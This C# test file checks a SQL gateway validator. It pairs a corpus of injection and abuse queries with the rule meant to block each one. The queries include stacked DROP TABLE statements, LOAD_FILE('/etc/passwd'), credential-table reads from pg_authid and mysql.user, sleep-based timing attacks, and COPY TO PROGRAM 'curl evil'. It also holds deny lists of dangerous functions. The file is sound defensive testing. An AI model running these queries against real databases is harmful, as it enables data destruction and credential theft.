using Gateway.Sql.Dialects;
using Gateway.Sql.Policy;
using Gateway.Sql.Validation;
using static Gateway.Sql.Tests.Validation.ValidatorTestKit;

namespace Gateway.Sql.Tests.Validation;

/// <summary>
/// Attempts to get something other than a capped read past the validator, each listed against the rule that must
/// stop it (the "rejected.sql" fixture, as a table).
/// </summary>
public sealed class AttackCorpusTests
{
    private static readonly SqlPolicy Policy = new()
    {
        MaxRows = 100,
        DeniedTables = Names("secrets"),
        DeniedColumns = Names("users.password"),
        Dialects = new Dictionary<SqlDialectKind, DialectRules>
        {
            [SqlDialectKind.Postgres] = Merge(Functions("pg_sleep", "pg_read_file", "lo_import", "dblink_exec", "set_config", "nextval", "query_to_xml"), Relations("pg_authid", "pg_shadow", "pg_catalog.pg_authid")),
            [SqlDialectKind.MySql] = Merge(Functions("sleep", "benchmark", "load_file", "get_lock"), Relations("mysql.user")),
            [SqlDialectKind.Sqlite] = Merge(Functions("load_extension", "writefile", "readfile"), Relations("sqlite_master")),
        },
    };

    private static DialectRules Merge(DialectRules functions, DialectRules relations) =>
        functions with { ProtectedRelations = relations.ProtectedRelations };

    public static TheoryData<string, string, string> Attacks => new()
    {
        // stacking and hiding a second statement
        { "postgres", "SELECT 1; DROP TABLE users", RuleIds.SingleStatement },
        { "postgres", "SELECT 1 /* */; /* */ DELETE FROM users", RuleIds.SingleStatement },
        { "mysql", "SELECT 1 /*! ; DROP TABLE users */", RuleIds.SingleStatement },
        { "mysql", "SELECT 1 #\n; DROP TABLE users", RuleIds.SingleStatement },
        { "mysql", "SELECT 'a\\'; DROP TABLE users; -- '", RuleIds.AmbiguousSyntax },
        { "mysql", "SELECT 'a\\\\'; DROP TABLE users; -- '", RuleIds.SingleStatement },
        { "postgres", "SELECT $$; DROP TABLE users; $$", null! },
        { "postgres", "SELECT 1 -- \rDROP TABLE users", RuleIds.ParseError },
        { "sqlite", "SELECT 1; ATTACH DATABASE '/tmp/x' AS x", RuleIds.SingleStatement },
        // writes hidden in queries
        { "postgres", "WITH x AS (DELETE FROM users RETURNING *) SELECT * FROM x", RuleIds.DataChange },
        { "postgres", "WITH x AS (SELECT 1) INSERT INTO users SELECT * FROM x", RuleIds.DataChange },
        { "postgres", "SELECT * INTO backup FROM orders", RuleIds.SelectInto },
        { "mysql", "SELECT * FROM orders INTO OUTFILE '/var/lib/mysql-files/x'", RuleIds.SelectInto },
        { "mysql", "SELECT @x := 1", RuleIds.SessionControl },
        { "postgres", "SELECT nextval('order_seq')", RuleIds.DeniedFunction },
        { "postgres", "SELECT set_config('role', 'admin', false)", RuleIds.DeniedFunction },
        { "postgres", "SELECT * FROM dblink_exec('dbname=x', 'DROP TABLE y')", RuleIds.DeniedFunction },
        { "postgres", "SELECT lo_import('/etc/passwd')", RuleIds.DeniedFunction },
        // side channels and denial of service
        { "postgres", "SELECT pg_sleep(60)", RuleIds.DeniedFunction },
        { "postgres", "SELECT \"PG_CATALOG\".\"PG_SLEEP\"(60)", RuleIds.DeniedFunction },
        { "postgres", "SELECT U&\"pg\\005Fsleep\"(60)", RuleIds.DeniedFunction },
        { "postgres", "SELECT * FROM orders WHERE id = 1 AND (SELECT pg_sleep(5)) IS NULL", RuleIds.DeniedFunction },
        { "postgres", "SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM orders", RuleIds.DeniedFunction },
        { "postgres", "SELECT query_to_xml('select * from pg_authid', true, true, '')", RuleIds.DeniedFunction },
        { "mysql", "SELECT SLEEP(10)", RuleIds.DeniedFunction },
        { "mysql", "SELECT 1 /*!50000 + SLEEP(10) */", RuleIds.DeniedFunction },
        { "mysql", "SELECT sleep /*!99999 FROM orders WHERE id IN */ (10)", RuleIds.DeniedFunction },
        { "mysql", "SELECT BENCHMARK(100000000, SHA1('x'))", RuleIds.DeniedFunction },
        { "mysql", "SELECT GET_LOCK('x', 10)", RuleIds.DeniedFunction },
        { "mysql", "SELECT LOAD_FILE('/etc/passwd')", RuleIds.DeniedFunction },
        { "sqlite", "SELECT load_extension('/tmp/evil.so')", RuleIds.DeniedFunction },
        { "sqlite", "SELECT writefile('/tmp/x', 'y')", RuleIds.DeniedFunction },
        // credentials and policy
        { "postgres", "SELECT rolname, rolpassword FROM pg_authid", RuleIds.ProtectedRelation },
        { "postgres", "SELECT * FROM pg_catalog.pg_authid", RuleIds.ProtectedRelation },
        { "postgres", "SELECT usename FROM pg_shadow WHERE passwd IS NOT NULL", RuleIds.ProtectedRelation },
        { "mysql", "SELECT user, authentication_string FROM mysql.user", RuleIds.ProtectedRelation },
        { "sqlite", "SELECT sql FROM sqlite_master", RuleIds.ProtectedRelation },
        { "postgres", "SELECT * FROM secrets", RuleIds.TableDenied },
        { "postgres", "SELECT * FROM \"secrets\"", RuleIds.TableDenied },
        { "postgres", "SELECT * FROM orders WHERE EXISTS (SELECT 1 FROM public.secrets)", RuleIds.TableDenied },
        { "postgres", "SELECT password FROM users", RuleIds.ColumnDenied },
        { "postgres", "SELECT u.\"password\" FROM users AS u", RuleIds.ColumnDenied },
        { "postgres", "SELECT * FROM users", RuleIds.ColumnDenied },
        { "postgres", "SELECT to_jsonb(u) FROM users u", RuleIds.ColumnDenied },
        { "postgres", "SELECT id FROM users WHERE password LIKE 'a%'", RuleIds.ColumnDenied },
        { "postgres", "SELECT x.p FROM (SELECT password AS p FROM users) x", RuleIds.ColumnDenied },
        { "mysql", "SELECT `password` FROM `users`", RuleIds.ColumnDenied },
        // session, transaction, locking
        { "postgres", "SET ROLE postgres", RuleIds.SessionControl },
        { "postgres", "SET LOCAL statement_timeout = 0", RuleIds.SessionControl },
        { "postgres", "COMMIT; DROP TABLE users", RuleIds.SingleStatement },
        { "postgres", "COMMIT", RuleIds.TransactionControl },
        { "postgres", "SELECT * FROM orders FOR UPDATE", RuleIds.Locking },
        { "mysql", "SELECT * FROM orders LOCK IN SHARE MODE", RuleIds.Locking },
        { "mysql", "LOCK TABLES orders WRITE", RuleIds.Locking },
        { "postgres", "EXPLAIN ANALYZE SELECT pg_sleep(1)", RuleIds.ExplainAnalyze },
        { "postgres", "EXPLAIN (ANALYZE) DELETE FROM users", RuleIds.ExplainAnalyze },
        { "postgres", "COPY (SELECT * FROM users) TO PROGRAM 'curl evil'", RuleIds.DataChange },
        { "postgres", "DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$", RuleIds.SessionControl },
        { "postgres", "CREATE TABLE x AS SELECT 1", RuleIds.DataChange },
        { "sqlite", "PRAGMA writable_schema = 1", RuleIds.SessionControl },
        { "sqlite", "VACUUM INTO '/tmp/copy.db'", RuleIds.QueryRoot },
        // parser confusion fails closed
        { "postgres", "SELECT 1 /* unterminated", RuleIds.ParseError },
        { "postgres", "SELECT 'a\0'", RuleIds.ParseError },
        { "postgres", "ＳＥＬＥＣＴ 1", RuleIds.ParseError },
        { "mysql", "SELECT /*! 'x */ ; DROP TABLE users; -- ' */", RuleIds.ParseError },
        { "mysql", "SELECT JSON_TABLE('[]', '$[*]' COLUMNS (a INT PATH '$')) ", RuleIds.ParseError },
    };

    [Theory]
    [MemberData(nameof(Attacks))]
    public void Is_stopped_by_the_expected_rule(string dialect, string sql, string? rule)
    {
        var verdict = Validate(dialect, sql, Policy);

        if (rule is null)
        {
            // Harmless once lexed correctly: one string literal, capped.
            Assert.True(verdict.Allowed, verdict.Message);
            Assert.EndsWith("LIMIT 100", verdict.Sql!, StringComparison.Ordinal);
            return;
        }

        Assert.False(verdict.Allowed, $"Allowed: {sql}");
        Assert.Equal(rule, verdict.Rule);
    }
}
